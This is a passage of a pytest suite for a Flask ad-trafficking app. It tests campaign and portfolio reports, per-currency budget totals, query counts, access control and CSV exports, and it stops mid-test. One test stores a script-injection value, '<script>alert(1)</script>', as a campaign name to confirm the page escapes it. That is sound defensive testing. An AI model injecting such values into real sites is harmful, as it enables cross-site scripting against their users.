"""Reports: the printable campaign report, the portfolio report with its per-currency totals,
and the CSV exports of the campaign list, the ticket list and the portfolio.

Pages are read with a small HTML tree parser, so the tests look at what a reader sees: the
facts in the report header, the rows of each table under its section heading, the bars of the
budget chart. CSV downloads are parsed with the csv module, the way a spreadsheet reads them.
"""

import csv
import html
import io
import re
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from types import SimpleNamespace

import pytest
from flask import g
from sqlalchemy import insert

from omnitraffick.models import (
    Campaign,
    CampaignStatus,
    RequestType,
    Role,
    Ticket,
    TicketEvent,
    TicketStatus,
    utcnow,
)
from omnitraffick.services import taxonomy
from omnitraffick.services import tickets as ticket_service
from tests.html import Node, parse

S = TicketStatus
BOM = b"\xef\xbb\xbf"
CAMPAIGN_HEADER = [
    "name",
    "campaign_name",
    "brand",
    "market",
    "currency",
    "year",
    "budget",
    "status",
    "tickets",
    "tickets_trafficked",
    "created_at",
]
TICKET_HEADER = [
    "platform_name",
    "campaign",
    "channel",
    "request_type",
    "status",
    "external_platform_id",
    "budget_type",
    "budget_amount",
    "currency",
    "flight_start",
    "flight_end",
    "qa_failure_reason",
    "updated_at",
]
STATUS_LABELS = [
    "Draft",
    "QA testing",
    "QA failed",
    "Ready for API",
    "Trafficked success",
    "Failed",
]
# Every campaign the tests make was created on this day, a minute apart, in order.
T0 = datetime(2026, 1, 15, 9, 30, tzinfo=UTC)
ISO_DATETIME = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?([+-]\d{2}:\d{2}|Z)")


# --- reading pages -------------------------------------------------------------------------------


def section(doc: Node, heading: str) -> Node:
    """The report section whose <h2> starts with `heading`."""
    for node in doc.find_all("section", cls="report-section"):
        h2 = node.find("h2")
        if h2 is not None and h2.text.startswith(heading):
            return node
    raise AssertionError(f"no section headed {heading!r}")


def table_rows(node: Node) -> list[list[str]]:
    """The body rows of the first table in `node`, as cell texts."""
    table = node.find("table")
    assert table is not None, "no table"
    body = table.find("tbody")
    return [
        [cell.text for cell in row.children if isinstance(cell, Node)]
        for row in body.find_all("tr")
    ]


def table_head(node: Node) -> list[str]:
    table = node.find("table")
    return [cell.text for cell in table.find("thead").find_all("th")]


def facts(doc: Node) -> dict[str, str]:
    """The report header's facts: label -> value."""
    table = doc.find("table", cls="report-facts")
    assert table is not None, "no facts table"
    found = {}
    for row in table.find_all("tr"):
        cells = [c for c in row.children if isinstance(c, Node)]
        for label, value in zip(cells[::2], cells[1::2], strict=True):
            found[label.text] = value.text
    return found


# --- reading CSV ---------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    """A CSV download as rows of cells (header first), after checking how it is served."""
    assert response.status_code == 200, response.text
    assert response.mimetype == "text/csv"
    assert response.is_streamed, "the CSV is built in memory instead of streamed"
    data = response.get_data()
    assert data.startswith(BOM), "no UTF-8 byte-order mark"
    text = data[len(BOM) :].decode("utf-8")
    assert not text.startswith("\ufeff"), "two byte-order marks"
    return list(csv.reader(io.StringIO(text, newline="")))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def disposition(response) -> str:
    return response.headers["Content-Disposition"]


# --- data ----------------------------------------------------------------------------------------


@pytest.fixture
def add_campaign(db):
    """Insert a campaign straight into the table, with the status and time asked for."""
    counter = iter(range(10_000))

    def add(
        brand,
        market,
        campaign_name,
        year=2026,
        budget="0",
        status=CampaignStatus.DRAFT,
        *,
        name_part=None,
    ):
        n = next(counter)
        name = taxonomy.build_name(
            brand.internal_code,
            market.code,
            taxonomy.MULTI_CHANNEL,
            name_part or campaign_name,
            year,
        )
        campaign = Campaign(
            name=name,
            campaign_name=campaign_name,
            brand_id=brand.id,
            market_id=market.id,
            year=year,
            budget=Decimal(budget),
            status=status,
            created_at=T0 + timedelta(minutes=n),
            updated_at=T0 + timedelta(minutes=n),
        )
        db.session.add(campaign)
        db.session.commit()
        return campaign

    return add


@pytest.fixture
def add_ticket(db):
    """Open a ticket through the service (so its settings are cleaned as in the app), then
    put it in `status` directly."""

    def add(campaign, channel, status=S.DRAFT, settings=None, **columns):
        ticket = ticket_service.create_ticket(
            campaign_id=campaign.id,
            channel_id=channel.id,
            request_type=RequestType.CREATE_CAMPAIGN,
            settings=settings or {},
        )
        ticket.status = status
        for column, value in columns.items():
            setattr(ticket, column, value)
        db.session.commit()
        return ticket

    return add


@pytest.fixture
def world(db, make_brand, make_market, make_channel, add_campaign, add_ticket):
    """Two brands, campaigns in USD (two markets), EUR and JPY, and tickets in several states.

    Budgets by currency: USD 1500.50 + 999.50 + 100.00, EUR 2000.25 + 300, JPY 150000.
    """
    dis = make_brand(name="Disney", internal_code="DIS")
    pix = make_brand(name="Pixar", internal_code="PIX")
    us = make_market(code="US", currency="USD", country="United States", region="NA")
    pr = make_market(code="PR", currency="USD", country="Puerto Rico", region="NA")
    fr = make_market(code="FR", currency="EUR", country="France", region="EMEA")
    jp = make_market(code="JP", currency="JPY", country="Japan", region="APAC")
    meta = make_channel(api_identifier="META", platform_name="Meta")
    goog = make_channel(api_identifier="GOOG", platform_name="Google Ads")
    A = CampaignStatus
    c = {
        "moana_us": add_campaign(dis, us, "MoanaLaunch", 2026, "1500.50", A.ACTIVE),
        "moana_fr": add_campaign(dis, fr, "MoanaLaunch", 2026, "2000.25", A.ACTIVE),
        "frozen_jp": add_campaign(dis, jp, "Frozen", 2026, "150000", A.PAUSED),
        "toy_us": add_campaign(pix, us, "ToyStory", 2025, "999.50", A.DRAFT),
        "cars_fr": add_campaign(pix, fr, "Cars", 2026, "300", A.COMPLETED),
        "encanto_pr": add_campaign(dis, pr, "Encanto", 2026, "100", A.ACTIVE),
    }
    t = {
        "moana_us_meta": add_ticket(
            c["moana_us"],
            meta,
            S.TRAFFICKED_SUCCESS,
            {"budget_type": "daily", "budget_amount": "1,500.5", "flight_start": "2026-03-01"},
            external_platform_id="act_881",
        ),
        "moana_us_goog": add_ticket(
            c["moana_us"], goog, S.QA_FAILED, qa_failure_reason="Landing URL is a 404"
        ),
        "moana_fr_meta": add_ticket(c["moana_fr"], meta, S.DRAFT),
        "frozen_jp_meta": add_ticket(
            c["frozen_jp"],
            meta,
            S.TRAFFICKED_SUCCESS,
            {"budget_type": "lifetime", "budget_amount": "150000", "flight_end": "2026-06-30"},
            external_platform_id="jp-1",
        ),
        "toy_us_goog": add_ticket(c["toy_us"], goog, S.READY_FOR_API),
    }
    return {
        "brands": {"dis": dis, "pix": pix},
        "markets": {"us": us, "pr": pr, "fr": fr, "jp": jp},
        "channels": {"meta": meta, "goog": goog},
        "campaigns": c,
        "tickets": t,
    }


@pytest.fixture
def viewer(login):
    """Reports are for everyone signed in, viewers included."""
    return login(Role.VIEWER)


# =================================================================================================
# The campaign report
# =================================================================================================


@pytest.fixture
def report_campaign(db, make_brand, make_market, make_channel, make_user, add_campaign, add_ticket):
    """DIS_US_MULTI_2026_MoanaLaunch with tickets on three channels and a QA history."""
    dis = make_brand(name="Disney", internal_code="DIS")
    us = make_market(code="US", currency="USD", country="United States", region="NA")
    tess = make_user(Role.TRAFFICKER, name="Tess Trafficker")
    meta = make_channel(api_identifier="META", platform_name="Meta")
    goog = make_channel(api_identifier="GOOG", platform_name="Google Ads")
    tiktok = make_channel(api_identifier="TTK", platform_name="TikTok")
    campaign = add_campaign(
        dis, us, "Moana launch", 2026, "1500.50", CampaignStatus.ACTIVE, name_part="MoanaLaunch"
    )
    campaign.created_by_id = tess.id
    db.session.commit()

    def open_ticket(channel, settings):
        return ticket_service.create_ticket(
            campaign_id=campaign.id,
            channel_id=channel.id,
            request_type=RequestType.CREATE_CAMPAIGN,
            settings=settings,
            created_by=tess,
        )

    meta_ticket = open_ticket(
        meta,
        {
            "budget_type": "daily",
            "budget_amount": "1000",
            "flight_start": "2026-03-01",
            "flight_end": "2026-03-31",
        },
    )
    goog_ticket = open_ticket(
        goog, {"budget_type": "lifetime", "budget_amount": "500.50", "flight_start": "2026-04-01"}
    )
    tiktok_ticket = open_ticket(tiktok, {"budget_type": "daily", "budget_amount": "250"})
    db.session.commit()

    def enter_qa_testing(ticket):
        # A move to QA_TESTING runs pre-flight QA and moves the ticket on by itself (see
        # tests/test_qa.py and tests/test_api.py); this history has QA decided by hand, so the
        # ticket is put in QA_TESTING directly, with the event such a move records.
        now = utcnow()
        ticket.events.append(
            TicketEvent(actor=tess, from_status=S.DRAFT, to_status=S.QA_TESTING, created_at=now)
        )
        ticket.status, ticket.status_changed_at = S.QA_TESTING, now
        db.session.flush()

    move = ticket_service.move_ticket
    enter_qa_testing(meta_ticket)
    move(meta_ticket, S.QA_FAILED, actor=tess, reason="Landing URL has no utm_campaign")
    enter_qa_testing(goog_ticket)
    move(goog_ticket, S.READY_FOR_API, actor=tess)
    move(goog_ticket, S.TRAFFICKED_SUCCESS, actor=tess, external_platform_id="gads-4711")
    db.session.commit()
    return {
        "campaign": campaign,
        "tess": tess,
        "meta": meta_ticket,
        "goog": goog_ticket,
        "tiktok": tiktok_ticket,
    }


def test_report_header_decodes_the_name_and_shows_brand_market_year_status_budget(
    client, viewer, report_campaign
):
    campaign = report_campaign["campaign"]

    response = client.get(f"/campaigns/{campaign.id}/report")

    assert response.status_code == 200
    doc = parse(response)
    assert doc.find("h1").text == "DIS_US_MULTI_2026_MoanaLaunch"
    assert facts(doc) == {
        "Brand": "Disney DIS",
        "Market": "United States US",
        "Year": "2026",
        "Campaign": "MoanaLaunch (“Moana launch”)",
        "Status": "Active",
        "Budget": "$1,500.50 USD",
    }


def test_report_has_one_row_per_ticket_with_platform_name_budget_and_flight(
    client, viewer, report_campaign
):
    campaign = report_campaign["campaign"]

    doc = parse(client.get(f"/campaigns/{campaign.id}/report"))
    tickets = section(doc, "Tickets by channel")

    assert table_head(tickets) == [
        "Platform name",
        "Request",
        "Status",
        "Platform id",
        "Budget",
        "Flight",
    ]
    # By channel name: Google Ads, Meta, TikTok.
    assert table_rows(tickets) == [
        [
            "DIS_US_GOOG_2026_MoanaLaunch",
            "Create Campaign",
            "Trafficked success",
            "gads-4711",
            "$500.50 lifetime",
            "2026-04-01 → open",
        ],
        [
            "DIS_US_META_2026_MoanaLaunch",
            "Create Campaign",
            "QA failed",
            "—",
            "$1,000.00 daily",
            "2026-03-01 → 2026-03-31",
        ],
        [
            "DIS_US_TTK_2026_MoanaLaunch",
            "Create Campaign",
            "Draft",
            "—",
            "$250.00 daily",
            "— → open",
        ],
    ]


def test_report_shows_qa_results_and_the_status_history_with_actor_and_reason(
    client, viewer, report_campaign
):
    campaign = report_campaign["campaign"]

    doc = parse(client.get(f"/campaigns/{campaign.id}/report?version=internal"))

    assert table_rows(section(doc, "QA results")) == [
        ["DIS_US_GOOG_2026_MoanaLaunch", "Passed", "—"],
        ["DIS_US_META_2026_MoanaLaunch", "Failed", "Landing URL has no utm_campaign"],
        ["DIS_US_TTK_2026_MoanaLaunch", "Not run yet", "—"],
    ]
    history = table_rows(section(doc, "Status history"))
    assert [row[1:] for row in history] == [
        ["DIS_US_META_2026_MoanaLaunch", "Draft", "Tess Trafficker", ""],
        ["DIS_US_GOOG_2026_MoanaLaunch", "Draft", "Tess Trafficker", ""],
        ["DIS_US_TTK_2026_MoanaLaunch", "Draft", "Tess Trafficker", ""],
        ["DIS_US_META_2026_MoanaLaunch", "Draft → QA testing", "Tess Trafficker", ""],
        [
            "DIS_US_META_2026_MoanaLaunch",
            "QA testing → QA failed",
            "Tess Trafficker",
            "Landing URL has no utm_campaign",
        ],
        ["DIS_US_GOOG_2026_MoanaLaunch", "Draft → QA testing", "Tess Trafficker", ""],
        ["DIS_US_GOOG_2026_MoanaLaunch", "QA testing → Ready for API", "Tess Trafficker", ""],
        [
            "DIS_US_GOOG_2026_MoanaLaunch",
            "Ready for API → Trafficked success",
            "Tess Trafficker",
            "",
        ],
    ]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC", row[0]) for row in history)


def test_report_history_says_system_for_moves_without_an_actor(db, client, viewer, report_campaign):
    ticket = report_campaign["tiktok"]
    ticket_service.move_ticket(ticket, S.QA_TESTING, actor=None)
    db.session.commit()

    doc = parse(client.get(f"/campaigns/{report_campaign['campaign'].id}/report?version=internal"))

    # The move and the pre-flight QA verdict it triggers (its settings fail several rules).
    moved, verdict = table_rows(section(doc, "Status history"))[-2:]
    assert moved[1:] == ["DIS_US_TTK_2026_MoanaLaunch", "Draft → QA testing", "system", ""]
    assert verdict[1:4] == ["DIS_US_TTK_2026_MoanaLaunch", "QA testing → QA failed", "system"]
    assert verdict[4].startswith("Pre-flight QA:") and "Blocking:" in verdict[4]


def test_report_chart_is_inline_svg_with_one_bar_per_channel(client, viewer, report_campaign):
    response = client.get(f"/campaigns/{report_campaign['campaign'].id}/report")

    chart = section(parse(response), "Budget split by channel").find("svg")
    assert chart is not None, "no inline <svg> chart"
    assert "chart" in chart.classes
    assert chart.attrs["role"] == "img"
    assert chart.find("title").text == "Budget split by channel"
    bars = [rect for rect in chart.find_all("rect") if rect.attrs.get("fill", "").startswith("url")]
    labels = [text.text for text in chart.find_all("text")]
    # Largest first: Meta's daily $1,000 over its 31 flight days, Google's lifetime $500.50;
    # TikTok's daily budget has no end date, so no total, and is left out (said below it).
    assert labels == [
        "Meta",
        "$31,000.00 (98%)",
        "Google Ads",
        "$500.50 (2%)",
    ]
    assert len(bars) == 2
    # Each bar is told apart by its own pattern, not only its shade (grayscale print).
    assert len({bar.attrs["fill"] for bar in bars}) == 2
    widths = [float(bar.attrs["width"]) for bar in bars]
    assert widths == sorted(widths, reverse=True)
    assert widths[0] / widths[1] == pytest.approx(31000 / 500.50, rel=0.02)
    # Drawn on the server: no script and no image fetched to draw it.
    assert "<script" not in response.text.split("<svg", 1)[1].split("</svg>", 1)[0]


def test_report_chart_sums_tickets_on_the_same_channel_into_one_bar(
    db, client, viewer, report_campaign
):
    campaign = report_campaign["campaign"]
    ticket_service.create_ticket(
        campaign_id=campaign.id,
        channel_id=report_campaign["tiktok"].channel_id,
        request_type=RequestType.CREATE_CAMPAIGN,
        settings={"budget_type": "lifetime", "budget_amount": "250"},
    )
    ticket_service.create_ticket(
        campaign_id=campaign.id,
        channel_id=report_campaign["tiktok"].channel_id,
        request_type=RequestType.CREATE_CAMPAIGN,
        settings={"budget_type": "lifetime", "budget_amount": "249.50"},
    )
    db.session.commit()

    doc = parse(client.get(f"/campaigns/{campaign.id}/report"))

    chart = section(doc, "Budget split by channel").find("svg")
    # 31 x 1000 + 500.50 + (250 + 249.50); the open-ended daily TikTok budget is left out.
    assert [text.text for text in chart.find_all("text")] == [
        "Meta",
        "$31,000.00 (97%)",
        "Google Ads",
        "$500.50 (2%)",
        "TikTok",
        "$499.50 (2%)",
    ]
    bars = [r for r in chart.find_all("rect") if r.attrs.get("fill", "").startswith("url")]
    assert len(bars) == 3


def test_report_chart_keeps_two_channels_with_the_same_platform_name_apart(
    db, client, viewer, make_brand, make_market, make_channel, add_campaign, add_ticket
):
    # Channel codes are unique, platform names are not: two Meta ad accounts are two channels.
    us_meta = make_channel(api_identifier="METAUS", platform_name="Meta")
    eu_meta = make_channel(api_identifier="METAEU", platform_name="Meta")
    campaign = add_campaign(make_brand(), make_market(), "TwoMetas", budget="1250")
    add_ticket(campaign, us_meta, settings={"budget_type": "LIFETIME", "budget_amount": "1000"})
    add_ticket(campaign, eu_meta, settings={"budget_type": "LIFETIME", "budget_amount": "250"})

    chart = section(parse(client.get(f"/campaigns/{campaign.id}/report")), "Budget split").find(
        "svg"
    )

    bars = [r for r in chart.find_all("rect") if r.attrs.get("fill", "").startswith("url")]
    amounts = [t.text for t in chart.find_all("text") if t.text.startswith("$")]
    assert len(bars) == 2, "two channels drawn as one bar"
    assert amounts == ["$1,000.00 (80%)", "$250.00 (20%)"]


def test_report_without_budgets_says_so_instead_of_drawing_a_chart(
    client, viewer, make_brand, make_market, make_channel, add_campaign, add_ticket
):
    campaign = add_campaign(make_brand(), make_market(), "Quiet", budget="10")
    add_ticket(campaign, make_channel())

    doc = parse(client.get(f"/campaigns/{campaign.id}/report"))

    split = section(doc, "Budget split by channel")
    assert split.find("svg") is None
    assert split.text.endswith("No ticket has a budget yet.")


def test_report_without_tickets_still_renders(
    client, viewer, make_brand, make_market, add_campaign
):
    campaign = add_campaign(make_brand(), make_market(currency="JPY"), "Empty", budget="150000")

    response = client.get(f"/campaigns/{campaign.id}/report?version=internal")

    assert response.status_code == 200
    doc = parse(response)
    assert facts(doc)["Budget"] == "¥150,000 JPY"
    assert "No tickets." in section(doc, "Tickets by channel").text
    assert table_rows(section(doc, "Status history")) == [["No moves yet."]]


def test_report_says_when_and_by_whom_it_was_generated_and_has_a_print_button(
    client, viewer, report_campaign
):
    before = datetime.now(UTC).replace(second=0, microsecond=0)
    response = client.get(f"/campaigns/{report_campaign['campaign'].id}/report")
    after = datetime.now(UTC)

    doc = parse(response)
    foot = doc.find("footer", cls="report-foot").text
    found = re.search(r"Generated (\d{4}-\d{2}-\d{2} \d{2}:\d{2}) UTC by (\S+)", foot)
    assert found, foot
    generated = datetime.strptime(found[1], "%Y-%m-%d %H:%M").replace(tzinfo=UTC)
    assert before <= generated <= after
    assert found[2] == viewer.email
    assert "campaign created 2026-01-15 09:30 UTC by Tess Trafficker" in foot
    button = doc.find("button", data_print=True)
    assert button is not None and button.text == "Print or save as PDF"
    assert button.attrs["type"] == "button"
    # The button and the way back are marked not to print.
    actions = doc.find("div", cls="report-actions")
    assert "no-print" in actions.classes
    assert actions.find("button", data_print=True) is not None


def test_report_prints_with_the_print_stylesheet(client, viewer, report_campaign):
    doc = parse(client.get(f"/campaigns/{report_campaign['campaign'].id}/report"))

    sheets = {link.attrs["href"]: link.attrs.get("media") for link in doc.find_all("link")}
    assert sheets["/static/css/print.css"] == "print"
    css = client.get("/static/css/print.css")
    assert css.status_code == 200
    assert "thead { display: table-header-group; }" in css.text
    css.close()


def test_report_escapes_what_users_typed(db, client, viewer, make_brand, make_market, add_campaign):
    campaign = add_campaign(
        make_brand(), make_market(), "<script>alert(1)</script>", name_part="Alert"
    )

    response = client.get(f"/campaigns/{campaign.id}/report")

    assert "<script>alert(1)</script>" not in response.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text


def test_report_runs_the_same_number_of_queries_for_3_and_30_tickets(
    db, client, viewer, count_queries, report_campaign
):
    campaign = report_campaign["campaign"]
    channels = [t.channel_id for t in (report_campaign[k] for k in ("meta", "goog", "tiktok"))]
    campaign_id = campaign.id
    url = f"/campaigns/{campaign_id}/report"

    def measure() -> int:
        fresh_request(db)
        with count_queries() as statements:
            response = client.get(url)
        assert response.status_code == 200
        return len(statements)

    client.get(url)
    few = measure()
    for n in range(27):
        ticket_service.create_ticket(
            campaign_id=campaign_id,
            channel_id=channels[n % 3],
            request_type=RequestType.CREATE_CAMPAIGN,
            settings={"budget_amount": "10"},
        )
    db.session.commit()
    many = measure()

    assert len(table_rows(section(parse(client.get(url)), "Tickets by channel"))) == 30
    assert few == many, f"{few} queries for 3 tickets but {many} for 30"


@pytest.mark.parametrize(
    "path",
    [
        f"/campaigns/{uuid.uuid4()}/report",
        "/campaigns/not-a-uuid/report",
        "/campaigns/123/report",
        "/campaigns/%00/report",
    ],
    ids=["unknown", "not-a-uuid", "number", "nul"],
)
def test_report_of_an_unknown_campaign_is_404(client, viewer, path):
    assert client.get(path).status_code == 404


def test_report_needs_a_login(client, report_campaign):
    response = client.get(f"/campaigns/{report_campaign['campaign'].id}/report")

    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


# =================================================================================================
# The portfolio report
# =================================================================================================


def portfolio(client, query: str = "") -> Node:
    response = client.get(f"/reports/?{query}")
    assert response.status_code == 200, response.text
    return parse(response)


def ticket_counts(doc: Node) -> dict[str, int]:
    tickets = section(doc, "Tickets")
    (row,) = table_rows(tickets)
    return dict(zip(table_head(tickets), map(int, row), strict=True))


def scope(doc: Node) -> str:
    return doc.find("p", cls="report-scope").text


def campaign_names(doc: Node) -> list[str]:
    return [row[0] for row in table_rows(section(doc, "Campaigns"))]


def test_portfolio_totals_are_kept_per_currency(client, viewer, world):
    doc = portfolio(client)

    assert table_rows(section(doc, "Budget by currency")) == [
        ["EUR", "2", "€2,300.25"],
        ["JPY", "1", "¥150,000"],
        ["USD", "3", "$2,600.00"],
    ]
    # Disney runs in three currencies: three lines, never one sum.
    assert table_rows(section(doc, "Budget by brand")) == [
        ["Disney", "EUR", "1", "€2,000.25"],
        ["Disney", "JPY", "1", "¥150,000"],
        ["Disney", "USD", "2", "$1,600.50"],
        ["Pixar", "EUR", "1", "€300.00"],
        ["Pixar", "USD", "1", "$999.50"],
    ]
    assert table_rows(section(doc, "Budget by market")) == [
        ["FR · France", "EUR", "2", "€2,300.25"],
        ["JP · Japan", "JPY", "1", "¥150,000"],
        ["PR · Puerto Rico", "USD", "1", "$100.00"],
        ["US · United States", "USD", "2", "$2,500.00"],
    ]
    assert scope(doc).startswith("6 campaigns ·")
    assert "matching the filters" not in scope(doc)


def test_portfolio_counts_tickets_by_status_and_the_trafficked_share(client, viewer, world):
    doc = portfolio(client)

    assert ticket_counts(doc) == {
        "Draft": 1,
        "QA testing": 0,
        "QA failed": 1,
        "Ready for API": 1,
        "Trafficked success": 2,
        "Failed": 0,
    }
    assert " ".join(section(doc, "Tickets").find("p").text.split()) == (
        "5 tickets; 40.0% trafficked."
    )


def test_portfolio_lists_campaigns_with_ticket_progress(client, viewer, world):
    doc = portfolio(client)
    rows = {row[0]: row[1:] for row in table_rows(section(doc, "Campaigns"))}

    assert rows == {
        "DIS_US_MULTI_2026_MoanaLaunch": ["Disney", "Active", "$1,500.50", "2", "1"],
        "DIS_FR_MULTI_2026_MoanaLaunch": ["Disney", "Active", "€2,000.25", "1", "0"],
        "DIS_JP_MULTI_2026_Frozen": ["Disney", "Paused", "¥150,000", "1", "1"],
        "PIX_US_MULTI_2025_ToyStory": ["Pixar", "Draft", "$999.50", "1", "0"],
        "PIX_FR_MULTI_2026_Cars": ["Pixar", "Completed", "€300.00", "0", "0"],
        "DIS_PR_MULTI_2026_Encanto": ["Disney", "Active", "$100.00", "0", "0"],
    }
    links = [a.attrs["href"] for a in section(doc, "Campaigns").find_all("a")]
    assert f"/campaigns/{world['campaigns']['frozen_jp'].id}/report" in links


@pytest.mark.parametrize(
    ("query", "currencies", "names", "tickets", "share"),
    [
        (
            "brand={pix}",
            [["EUR", "1", "€300.00"], ["USD", "1", "$999.50"]],
            ["PIX_US_MULTI_2025_ToyStory", "PIX_FR_MULTI_2026_Cars"],
            {"Ready for API": 1},
            "1 ticket; 0.0% trafficked.",
        ),
        (
            "market={fr}",
            [["EUR", "2", "€2,300.25"]],
            ["DIS_FR_MULTI_2026_MoanaLaunch", "PIX_FR_MULTI_2026_Cars"],
            {"Draft": 1},
            "1 ticket; 0.0% trafficked.",
        ),
        (
            "year=2025",
            [["USD", "1", "$999.50"]],
            ["PIX_US_MULTI_2025_ToyStory"],
            {"Ready for API": 1},
            "1 ticket; 0.0% trafficked.",
        ),
        (
            "status=ACTIVE",
            [["EUR", "1", "€2,000.25"], ["USD", "2", "$1,600.50"]],
            # No exchange rates: dollars and euros are not compared, each currency in turn.
            [
                "DIS_US_MULTI_2026_MoanaLaunch",
                "DIS_PR_MULTI_2026_Encanto",
                "DIS_FR_MULTI_2026_MoanaLaunch",
            ],
            {"Draft": 1, "QA failed": 1, "Trafficked success": 1},
            "3 tickets; 33.3% trafficked.",
        ),
        (
            "brand={dis}&market={us}&year=2026&status=ACTIVE",
            [["USD", "1", "$1,500.50"]],
            ["DIS_US_MULTI_2026_MoanaLaunch"],
            {"QA failed": 1, "Trafficked success": 1},
            "2 tickets; 50.0% trafficked.",
        ),
        (
            "brand={pix}&status=PAUSED",
            [["No campaigns."]],
            [],
            {},
            "0 tickets; none yet.",
        ),
    ],
    ids=["brand", "market", "year", "status", "all-four", "nothing"],
)
def test_portfolio_filters_narrow_every_figure(
    client, viewer, world, query, currencies, names, tickets, share
):
    ids = {**world["brands"], **world["markets"]}
    doc = portfolio(client, query.format(**{k: v.id for k, v in ids.items()}))

    assert table_rows(section(doc, "Budget by currency")) == currencies
    # Budget sort, largest first (the default).
    assert campaign_names(doc) == names
    assert ticket_counts(doc) == {label: tickets.get(label, 0) for label in STATUS_LABELS}
    assert " ".join(section(doc, "Tickets").find("p").text.split()) == share
    n = len(names)
    assert scope(doc).startswith(f"{n} campaign{'' if n == 1 else 's'} matching the filters")
    # By brand and by market follow the same filter.
    brand_total = sum(int(row[2]) for row in table_rows(section(doc, "Budget by brand")))
    market_total = sum(int(row[2]) for row in table_rows(section(doc, "Budget by market")))
    assert brand_total == market_total == n


def test_portfolio_keeps_the_filters_in_its_form_and_csv_link(client, viewer, world):
    dis, fr = world["brands"]["dis"], world["markets"]["fr"]
    doc = portfolio(client, f"brand={dis.id}&market={fr.id}&year=2026&status=ACTIVE")

    form = doc.find("form", id="list-filters")
    chosen = {
        select.attrs["name"]: next(
            (o.attrs["value"] for o in select.find_all("option") if "selected" in o.attrs), ""
        )
        for select in form.find_all("select")
    }
    assert chosen == {"brand": str(dis.id), "market": str(fr.id), "status": "ACTIVE"}
    assert form.find("input", name="year").attrs["value"] == "2026"
    csv_link = next(
        html.unescape(a.attrs["href"])
        for a in doc.find_all("a")
        if "export.csv" in a.attrs.get("href", "")
    )
    assert csv_link.startswith("/reports/export.csv?")
    for part in (f"brand={dis.id}", f"market={fr.id}", "year=2026", "status=ACTIVE"):
        assert part in csv_link


def test_portfolio_with_no_campaigns_says_so(client, viewer):
    doc = portfolio(client)

    assert table_rows(section(doc, "Budget by currency")) == [["No campaigns."]]
    assert " ".join(section(doc, "Tickets").find("p").text.split()) == "0 tickets; none yet."
    assert campaign_names(doc) == []


def test_portfolio_needs_a_login(client):
    response = client.get("/reports/")

    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def fresh_request(db) -> None:
    """Start the next request as production does: a new session, the user not yet loaded."""
    db.session.remove()
    g.pop("_login_user", None)


def snapshot(row, *names: str) -> SimpleNamespace:
    """The named attributes of a row, as a plain object that outlives its session."""
    return SimpleNamespace(**{name: getattr(row, name) for name in names})


def bulk_seed(db, brands, markets, channel, count: int, start: int) -> None:
    """`count` campaigns over brands, markets (several currencies) and statuses, each with
    two tickets: one INSERT per table."""
    statuses, ticket_statuses = list(CampaignStatus), list(TicketStatus)
    rows = []
    for n in range(start, start + count):
        brand, market = brands[n % len(brands)], markets[n // 2 % len(markets)]
        year = 2026 - n // 3 % 2
        rows.append(
            {
                "id": uuid.uuid4(),
                "name": f"{brand.internal_code}_{market.code}_MULTI_{year}_Bulk{n:05d}",
                "campaign_name": f"Bulk {n:05d}",
                "brand_id": brand.id,
                "market_id": market.id,
                "year": year,
                "budget": Decimal(n) + Decimal("0.25"),
                "status": statuses[n % len(statuses)],
            }
        )
    db.session.execute(insert(Campaign), rows)
    tickets = [
        {
            "id": uuid.uuid4(),
            "campaign_id": row["id"],
            "channel_id": channel.id,
            "request_type": RequestType.CREATE_CAMPAIGN,
            "payload_config": {},
            "status": ticket_statuses[(k + j) % len(ticket_statuses)],
        }
        for k, row in enumerate(rows)
        for j in range(2)
    ]
    db.session.execute(insert(Ticket), tickets)
    db.session.commit()


@pytest.mark.parametrize(
    "query",
    ["", "brand={brand}", "status=ACTIVE&year=2026", "market={market}&sort=name&dir=asc"],
    ids=["all", "brand", "status-year", "market-sorted"],
)
def test_portfolio_runs_the_same_number_of_queries_for_5_and_300_campaigns(
    db, client, viewer, count_queries, make_brand, make_market, make_channel, query
):
    # Plain copies: the session that loaded them is dropped before each measured request.
    brands = [snapshot(make_brand(), "id", "internal_code") for _ in range(2)]
    markets = [
        snapshot(make_market(currency=currency), "id", "code") for currency in ("USD", "EUR", "JPY")
    ]
    channel = snapshot(make_channel(), "id")
    url = "/reports/?" + query.format(brand=brands[0].id, market=markets[1].id)
    client.get(url)  # warm up: the first request of a session may do extra work

    def measure() -> tuple[int, Node]:
        fresh_request(db)
        with count_queries() as statements:
            response = client.get(url)
        assert response.status_code == 200
        return len(statements), parse(response)

    bulk_seed(db, brands, markets, channel, 5, start=0)
    few, few_doc = measure()
    bulk_seed(db, brands, markets, channel, 295, start=5)
    many, many_doc = measure()

    assert 0 < len(campaign_names(few_doc)) < len(campaign_names(many_doc)) <= 200
    assert few == many, f"{few} queries for 5 campaigns but {many} for 300"
    # Two of them read the workspace's reporting currency and the rates to convert with.
    assert few <= 12, few


def test_portfolio_shows_at_most_200_rows_but_counts_them_all(
    db, client, viewer, make_brand, make_market, make_channel
):
    bulk_seed(db, [make_brand()], [make_market()], make_channel(), 230, start=0)

    doc = portfolio(client)

    assert len(campaign_names(doc)) == 200
    assert (
        section(doc, "Campaigns").find("h2").text
        == "Campaigns (largest 200 of 230; all in the CSV)"
    )
    assert table_rows(section(doc, "Budget by currency"))[0][:2] == ["USD", "230"]
    assert sum(ticket_counts(doc).values()) == 460
    # In another order the first 200 are not "the largest".
    by_name = portfolio(client, "sort=name")
    assert (
        section(by_name, "Campaigns").find("h2").text
        == "Campaigns (first 200 of 230; all in the CSV)"
    )


# =================================================================================================
# CSV exports
# =================================================================================================


def test_campaign_csv_is_a_streamed_utf8_attachment_with_a_bom(client, viewer, world):
    response = client.get("/campaigns/export.csv")

    rows = read_csv(response)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert disposition(response) == 'attachment; filename="campaigns.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert rows[0] == CAMPAIGN_HEADER
    assert len(rows) == 1 + 6


def test_campaign_csv_has_iso_dates_and_decimal_budgets(client, viewer, world):
